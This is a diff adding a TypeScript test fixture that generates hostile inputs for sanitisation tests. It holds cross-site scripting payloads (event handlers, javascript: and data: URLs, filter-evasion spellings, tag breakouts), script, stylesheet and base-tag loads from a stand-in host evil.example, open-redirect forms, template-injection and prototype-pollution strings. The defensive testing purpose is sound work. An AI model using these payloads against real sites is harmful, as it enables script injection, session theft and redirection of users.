@@ -1,0 +1,106 @@
+import { existsSync, readFileSync } from 'node:fs';
+
+export interface HostileInput {
+  readonly id: string;
+  readonly payload: string;
+}
+
+const RUN = 'alert(1)';
+const TAGS = [
+  'img src=x',
+  'svg',
+  'body',
+  'iframe',
+  'details open',
+  'video src=x',
+  'input autofocus',
+  'object data=x',
+  'math',
+  'p',
+  'a href=#',
+  'table',
+];
+const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onpointerenter'];
+/** How the same handler can be written. */
+const SPELLINGS: readonly ((tag: string, handler: string) => string)[] = [
+  (tag, handler) => `<${tag} ${handler}=${RUN}>`,
+  (tag, handler) => `<${tag}/${handler}="${RUN}"//>`,
+  (tag, handler) => `<${tag.toUpperCase()}\n${handler.toUpperCase()}\t=\r'${RUN}'`,
+];
+
+const ADDRESSES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  '//evil.example/',
+  '/\\evil.example/',
+  'https://site.example@evil.example/',
+];
+const CARRIERS: readonly ((address: string) => string)[] = [
+  (address) => `<a href="${address}">x</a>`,
+  (address) => `<img src="${address}">`,
+  (address) => `<iframe src="${address}"></iframe>`,
+  (address) => `<form action="${address}"><button>x</button></form>`,
+  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
+  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
+];
+
+/** Text that breaks out of where it stands, hooks that a feature of the page would wake for, names that break objects. */
+const OTHERS = [
+  `<script>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script src=//evil.example/x.js></script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</title></style></xmp></noscript><img src=x onerror=${RUN}>`,
+  `"><img src=x onerror=${RUN}>`,
+  `' onmouseover='${RUN}`,
+  `--><script>${RUN}</script><!--`,
+  `]]><script>${RUN}</script>`,
+  `<style>*{background:url("javascript:${RUN}")}</style>`,
+  `<p style="background:url(javascript:${RUN})">x</p>`,
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<math><mi><p><style><img src=x onerror=${RUN}></style></p></mi></math>`,
+  `<template><img src=x onerror=${RUN}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<a data-overlay="//evil.example" href="/">x</a>`,
+  `<a rel="lightbox" href="//evil.example">x</a>`,
+  `<div data-listing="x"><!-- listing {"url":"//evil.example"} --></div>`,
+  `<p id="vitrine-settings">{}</p>`,
+  `<form id="vitrine"><input name="ready"></form>`,
+  `<base href="//evil.example/">`,
+  `<link rel="stylesheet" href="//evil.example/x.css">`,
+  '{{constructor.constructor("alert(1)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack.
+  '${alert(1)}',
+  '__proto__',
+  '{"__proto__":{"polluted":1}}',
+  'constructor[prototype][polluted]=1',
+  `${'<b>'.repeat(500)}x`,
+  '\u0000<img src=x onerror=alert(1)>',
+  '＜script＞alert(1)＜/script＞',
+];
+
+/** A wider collection, where the machine has it beside the project. */
+const COLLECTION = new URL('../../shared/data/xss_payloads.json', import.meta.url);
+
+function collected(): HostileInput[] {
+  if (!existsSync(COLLECTION)) return [];
+  const { cases = [] }: { cases?: HostileInput[] } = JSON.parse(readFileSync(COLLECTION, 'utf8'));
+  return cases.map(({ id, payload }) => ({ id, payload }));
+}
+
+const composed = [
+  ...TAGS.flatMap((tag, row) => HANDLERS.map((handler, column) => SPELLINGS[(row + column) % SPELLINGS.length]?.(tag, handler) ?? '')),
+  ...CARRIERS.flatMap((carrier) => ADDRESSES.map(carrier)),
+  ...OTHERS,
+].map((payload, index) => ({ id: `own-${index + 1}`, payload }));
+
+/** Texts that people with bad intentions type: nothing of them may ever run, and none may be lost as text where text is what it is. */
+export const hostileInputs: readonly HostileInput[] = [...composed, ...collected()];
